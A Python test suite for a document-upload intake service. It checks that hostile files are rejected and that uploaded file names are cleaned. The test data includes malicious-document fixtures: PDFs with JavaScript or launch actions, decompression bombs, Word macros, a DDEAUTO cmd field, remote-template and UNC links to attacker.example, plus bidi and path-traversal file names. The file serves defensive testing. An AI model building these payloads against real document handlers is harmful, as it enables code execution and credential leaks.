"""Hostile files on the public intake, over HTTP and through the service: refused with a message
that says what to send instead, and nothing of them kept."""

import re

import pytest
from pypdf.generic import TextStringObject

from intake import services
from intake.models import Draft, DraftDocument
from tests import documents
from tests.intake.test_views import started, step_url, stored_files, upload

pytestmark = pytest.mark.django_db

AGAIN = "Print it to PDF again"

HOSTILE = [
    ("polyglot.html", lambda: documents.POLYGLOT, "web page code"),
    ("letter.pdf", documents.pdf_polyglot, "web page code"),
    ("letter.pdf", documents.pdf_with_javascript, "contains a program"),
    ("letter.pdf", documents.pdf_with_open_action_javascript, "contains a program"),
    ("letter.pdf", documents.pdf_with_launch, "contains a program"),
    ("letter.pdf", documents.pdf_with_attachment, "other files or media inside it"),
    ("letter.pdf", documents.pdf_with_xfa, "fillable form"),
    ("letter.pdf", lambda: documents.pdf_with_password("secret"), "protected with a password"),
    ("letter.pdf", lambda: b"%PDF-1.7\n" + b"petition text\n" * 100, "seems damaged"),
    (
        "letter.docx",
        lambda: documents.docx(
            document=b"<w:document>" + b" " * (60 * 1024 * 1024) + b"</w:document>"
        ),
        "unpacks to much more than its size",
    ),
    ("letter.docx", lambda: documents.docx({"word/vbaProject.bin": documents.OLE2}), "macros"),
    (
        "letter.docx",
        lambda: documents.docx({"word/embeddings/package.zip": documents.docx()}),
        "other files or objects inside it",
    ),
    ("photo.png", lambda: documents.png(100_000, 100_000), "120 million pixels"),
    # 68 KB that inflate to 70 MB inside the PDF: refused at once, not parsed for seconds.
    ("letter.pdf", documents.pdf_with_object_stream_bomb, "too complex for us to check"),
    (
        "letter.pdf",
        lambda: documents.pdf_with_action(
            documents._action("/GoToR", F=TextStringObject("\\\\attacker.example\\x.pdf"))
        ),
        "contains a program",
    ),
    (
        "letter.docx",
        lambda: documents.docx_linking("attachedTemplate", "https://attacker.example/t.dotm"),
        "other files or objects inside it",
    ),
    (
        "letter.docx",
        lambda: documents.docx(document=documents.word_body(documents.field("DDEAUTO cmd"))),
        "other files or objects inside it",
    ),
]


@pytest.mark.parametrize(("name", "build", "message"), HOSTILE)
def test_hostile_files_are_refused_over_http(client, settings, name, build, message):
    started(client)
    response = upload(client, name, build())
    assert message in response.text
    assert "The file is added." not in response.text
    assert stored_files(settings) == []
    assert not DraftDocument.objects.exists()


@pytest.mark.parametrize(
    "build", [documents.pdf_with_javascript, documents.pdf_with_launch, documents.pdf_with_xfa]
)
def test_pdf_refusals_say_what_to_do(client, build):
    started(client)
    assert AGAIN in upload(client, "letter.pdf", build()).text


def draft_and_key():
    draft, dek, _code = services.draft_start(language="en")
    return draft, dek


@pytest.mark.parametrize(("name", "build", "message"), HOSTILE)
def test_the_service_refuses_them_too(settings, name, build, message):
    draft, dek = draft_and_key()
    upload = documents.encrypted_upload(build(), name=name, key=dek, case_id=draft.pk)
    with pytest.raises(services.IntakeError, match=re.escape(message)):
        services.draft_add_document(draft=draft, dek=dek, upload=upload)
    assert stored_files(settings) == []
    assert not DraftDocument.objects.exists()


def stored_name(draft: Draft, dek: bytes) -> str:
    ((_document, details),) = services.draft_documents(draft=draft, dek=dek)
    return details["name"]


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("invoice\u202efdp.pdf", "invoicefdp.pdf"),
        ("\u2067letter\u2069.pdf", "letter.pdf"),
        ("cert\u200bificate.pdf", "certificate.pdf"),
        ("../../../etc/letter.pdf", "letter.pdf"),
        ("\u0301\u0301\u0301.pdf", "pdf"),
        ("\u202e\u200d", "document"),
    ],
)
def test_file_names_are_stored_without_hidden_characters_or_folders(name, kept):
    draft, dek = draft_and_key()
    upload = documents.encrypted_upload(documents.pdf(), name=name, key=dek, case_id=draft.pk)
    services.draft_add_document(draft=draft, dek=dek, upload=upload)
    assert stored_name(draft, dek) == kept


def test_a_bidi_file_name_over_http_is_listed_as_it_looks(client):
    started(client)
    response = upload(client, "invoice\u202efdp.pdf", documents.pdf())
    assert "The file is added." in response.text
    assert "<bdi>invoicefdp.pdf</bdi>" in client.get(step_url("documents")).text
    assert "\u202e" not in response.text


def test_ordinary_files_of_every_type_are_added(client, settings):
    started(client)
    for name, content in [
        ("certificate.pdf", documents.pdf()),
        ("letter.docx", documents.docx()),
        ("photo.png", documents.png(4032, 3024)),
        ("photo.jpg", documents.jpeg(4032, 3024, app_padding=20_000)),
    ]:
        assert "The file is added." in upload(client, name, content).text, name
    assert DraftDocument.objects.count() == 4
    assert len(stored_files(settings)) == 4
